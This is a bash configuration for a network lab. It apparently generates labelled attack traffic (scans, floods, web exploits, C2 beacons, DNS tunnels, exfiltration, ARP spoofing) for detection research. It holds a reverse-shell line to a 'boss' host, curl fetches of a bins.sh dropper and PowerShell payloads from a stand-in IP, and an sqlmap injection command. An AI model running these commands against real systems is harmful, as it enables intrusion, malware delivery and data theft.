# What the first three attack networks did not record. Sourced by ../clinic.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=192.0.2.45 [bad2]=203.0.113.46 [desk]=172.22.40.31 [desk2]=172.22.40.32 [rogue]=172.22.40.199 [bots]=192.0.2.100)
WWW=172.22.8.20 STORE=172.22.8.23 APP=172.22.8.24 ZONE=172.22.8.0/24 BOSS=203.0.113.185 ROGUE_MAC=02:00:5e:00:1e:c7
own() { on "$1" /usr/bin/python3 "$LAB_HOME/clinic/attacks.py" "${@:2}"; }
# crowd COUNT: the addresses of so many bots.
crowd() { seq -s, -f '192.0.2.%g' 101 $((100 + $1)); }

# tool NAME CLASS HOST VICTIM [ATTACKER|- [INTERFACE [LENGTH]]]; recorded outside or among the offices.
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
lan() { tool "$1" "$2" "$3" "$4" "${5:-}" br-off "${6:-0}"; }

out scan_udp_words port-scan bad $APP; scan_udp_words() { own 40 udp_services $APP 0.8; }
out scan_odd port-scan bad2 $WWW; scan_odd() { own 30 odd_scan 203.0.113.46 $WWW 180 9; }
out sweep_banners host-sweep bad $ZONE; sweep_banners() { own 40 banner_sweep 172.22.8. 1 120 80 8; }
lan sweep_telnet malware desk ''; sweep_telnet() { own 30 telnet_worm 900 60; }

out guess_ldap_names brute-force bad $APP; guess_ldap_names() { own 40 ldap_spray $APP 60 6; }
out guess_mongo brute-force bad2 $APP; guess_mongo() { own 30 mongo $APP 40; }
out guess_amqp brute-force bad $APP; guess_amqp() { own 30 amqp $APP 40; }
out guess_graphql brute-force bad2 $APP; guess_graphql() { own 30 graphql $APP 40 5; }
out guess_json brute-force bad $APP; guess_json() { own 40 json_stuffing $APP 70; }
out guess_code brute-force bad2 $APP; guess_code() { own 40 one_time $APP 300; }
out guess_multicall brute-force bad $APP; guess_multicall() { own 30 multicall $APP 12 100; }
out guess_smtp_three brute-force bad2 $STORE; guess_smtp_three() { own 50 smtp_auth $STORE 16; }
out guess_impacket brute-force bad $STORE; guess_impacket() { own 40 smb_spray $STORE 30; }

out flood_stomp dos-flood bad $WWW; flood_stomp() { own 15 stomp $WWW 80 6 8; }
out flood_vse dos-flood bad2 $APP; flood_vse() { own 15 vse $APP 900 7; }
out flood_nurse dos-flood bad $WWW; flood_nurse() { own 15 black_nurse 192.0.2.45 $WWW 900 7; }
out flood_synack dos-flood bad2 $WWW -; flood_synack() { own 20 syn_ack $WWW 1500 200; }
out amplify_desktop dos-flood bad $STORE -; amplify_desktop() { own 15 reflected $STORE 3283 500 6 1000 80; }
out flood_continuation dos-flood bad2 $WWW; flood_continuation() { own 20 continuation $WWW 8443 8 9; }
out flood_monlist dos-flood bad $STORE 203.0.113.5; flood_monlist() { own 15 monlist $STORE 700 7; }
out flood_searches dos-flood bots $APP "$(crowd 25)"; flood_searches() { own 30 searches 25 $APP 6 14; }

out slow_tls_body slow-dos bad $WWW; slow_tls_body() { own 50 slow_tls_body $WWW 50 42; }
out slow_imap slow-dos bad2 $STORE; slow_imap() { own 50 slow_imap $STORE 45 42; }
out slow_mysql slow-dos bad $STORE; slow_mysql() { own 50 slow_mysql $STORE 60 42; }
out slow_h2 slow-dos bad2 $WWW; slow_h2() { own 50 slow_h2 $WWW 8443 40 42; }

out web_spring exploit bad $APP; web_spring() { own 20 spring $APP; }
out web_log4 exploit bad2 $APP; web_log4() { own 20 log4 $APP; }
out web_objects exploit bad $APP; web_objects() { own 20 deserial $APP; }
out web_appliances exploit bad2 $APP; web_appliances() { own 25 appliances $APP; }
out web_ssrf web-attack bad $APP; web_ssrf() { own 25 ssrf $APP; }
out web_nosql web-attack bad2 $APP; web_nosql() { own 25 nosql $APP; }
out web_encoded_paths web-attack bad $APP; web_encoded_paths() { own 25 traversal $APP; }
out web_upload web-attack bad2 $APP; web_upload() { own 30 web_shell $APP; }
out web_graphql web-attack bad $APP; web_graphql() { own 25 graph_probe $APP; }
out web_sqlmap_json web-attack bad2 $APP; web_sqlmap_json() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 30 sqlmap --batch --disable-coloring --random-agent --timeout 5 --delay 0.3 -u "http://$APP/api/find" --data '{"name":"chair*","page":1}'); }
out web_changeme web-attack bad $APP; web_changeme() { (cd /usr/share/changeme && on 40 changeme --log "$LAB_DIR/changeme.log" --fresh --threads 4 $APP); }
out exploit_debugger exploit bad $APP; exploit_debugger() { own 15 debugger $APP; }
out exploit_activemq exploit bad2 $APP; exploit_activemq() { own 15 activemq $APP; }
out exploit_elastic exploit bad $APP; exploit_elastic() { own 15 elastic $APP; }

lan c2_cobalt c2-beacon desk $BOSS; c2_cobalt() { own 130 profile $BOSS 80 5 20 125 cobalt; }
lan c2_sliver c2-beacon desk2 $BOSS; c2_sliver() { own 140 profile $BOSS 443 5 30 135 sliver app.example; }
lan c2_mythic c2-beacon desk $BOSS; c2_mythic() { own 130 profile $BOSS 80 4 23 120 mythic; }
lan c2_havoc c2-beacon desk2 $BOSS; c2_havoc() { own 130 profile $BOSS 443 3 15 110 havoc; }
lan c2_merlin c2-beacon desk $BOSS; c2_merlin() { own 130 one_h2 $BOSS 5 20 120; }
lan c2_doh c2-beacon desk2 $BOSS; c2_doh() { own 130 doh $BOSS 5 30 120; }
lan c2_chisel c2-beacon desk $BOSS; c2_chisel() { own 110 chisel $BOSS 100; }
lan c2_frp c2-beacon desk2 $BOSS; c2_frp() { own 110 frp $BOSS 6 100; }
lan c2_hoax c2-beacon desk $BOSS; c2_hoax() { own 90 hoax $BOSS 80; }
typed_orders() { sleep 4; for c in id 'uname -a' 'ls -la /etc' 'cat /etc/hosts' 'ps aux | head -20' 'ls /usr/bin | head -30' 'df -h' 'ip address' 'ls -la /'; do echo "$c"; sleep 3; done; echo exit; }
lan c2_httptunnel c2-beacon desk2 $BOSS; c2_httptunnel() {
    ns_start boss hts -w -F 127.0.0.1:4460 8890
    typed_orders | timeout 50 ip netns exec "$LAB_NS-boss" nc -n -l -p 4460 >/dev/null 2>&1 &
    sleep 1
    ns_start desk2 htc -w -F 2300 $BOSS:8890
    sleep 1
    on 42 bash -c 'exec sh -i >& /dev/tcp/127.0.0.1/2300 0>&1'
}

lan tunnel_cobalt dns-tunnel desk $BOSS; tunnel_cobalt() { own 130 names_cobalt $BOSS 4 20 125; }
lan tunnel_sliver dns-tunnel desk2 $BOSS; tunnel_sliver() { own 110 names_sliver $BOSS 3 100; }
lan tunnel_six dns-tunnel desk $BOSS; tunnel_six() { own 100 names_six $BOSS 90; }

lan fetch_script malware desk $BOSS; fetch_script() { on 30 bash -c 'curl -s -m 8 -o /dev/null http://203.0.113.185/bins.sh; for a in mips arm7 x86; do sleep 1; curl -s -m 8 -o /dev/null http://203.0.113.185/b/$a; done'; }
lan fetch_powershell malware desk2 $BOSS; fetch_powershell() { on 20 bash -c 'curl -s -m 8 -A "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.1" -o /dev/null http://203.0.113.185/a.ps1; sleep 2; curl -s -m 8 -A "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.1" -o /dev/null http://203.0.113.185/s2.ps1'; }
lan lock_share malware desk $APP; lock_share() { own 40 lock_files $APP 80; }

lan leak_mail exfiltration desk $BOSS '' 400; leak_mail() { own 40 by_mail $BOSS 5 3000000; }
lan leak_tftp exfiltration desk2 $BOSS '' 400; leak_tftp() { own 40 by_tftp $BOSS 8000000; }
lan leak_udp exfiltration desk $BOSS '' 400; leak_udp() { own 40 by_udp $BOSS 20000000; }

lan names_poisoned arp-spoof rogue '' 172.22.40.199; names_poisoned() { ns_start desk2 python3 "$LAB_HOME/clinic/attacks.py" asks_lan 24; own 30 names_of_lan 26; }
